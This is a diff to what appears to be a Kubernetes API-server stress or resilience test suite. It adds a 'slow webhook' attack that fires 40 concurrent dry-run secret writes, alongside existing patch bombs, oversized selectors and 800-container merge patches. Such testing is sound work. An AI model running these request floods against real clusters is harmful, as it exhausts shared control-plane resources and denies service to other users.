@@ -20,6 +20,7 @@ CLAIMS = "/apis/resource.k8s.io/v1/namespaces/default/resourceclaims"
 NAMES = 20  # of objects that attackers make
 BOMBS = 10  # patches at once: with the pause between two attempts, about a hundred a second
 TEMPLATES = "/api/v1/namespaces/default/podtemplates"
+SECRETS = "/api/v1/namespaces/default/secrets"
 DEFINITIONS = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"
 CLUSTER_ROLES = "/apis/rbac.authorization.k8s.io/v1/clusterroles"
 SELECTOR = ",".join(f"k{number}!=v" for number in range(990))
@@ -178,6 +179,13 @@ async def copy_bombs(attacker: Attacker) -> str:
     return (await asyncio.gather(*asked))[0]
 
 
+async def slow_webhook(attacker: Attacker) -> str:
+    """Writes that a slow webhook is asked about."""
+    tree = {"metadata": {"generateName": "slow-"}}
+    asked = (attacker.ask("editor", "POST", f"{SECRETS}?dryRun=All", tree) for _ in range(40))
+    return (await asyncio.gather(*asked))[0]
+
+
 def merged_again() -> Any:
     """One container, eight hundred times."""
     return {"template": {"spec": {"containers": [{"name": "c", "env": [{"name": "E0"}]}] * 800}}}
@@ -274,6 +282,7 @@ ATTACKS: dict[str, Attack] = {
         merged_again,
         content_type="application/strategic-merge-patch+json",
     ),
+    "editor: writes through a slow webhook": slow_webhook,
     "editor: long YAML": asking("editor", "POST", f"{CONFIG}?dryRun=All", long_yaml, content_type="application/yaml"),
     "editor: costly claims": asking("editor", "POST", f"{CLAIMS}?dryRun=All", costly_claim),
     "editor: large applies": large_applies,
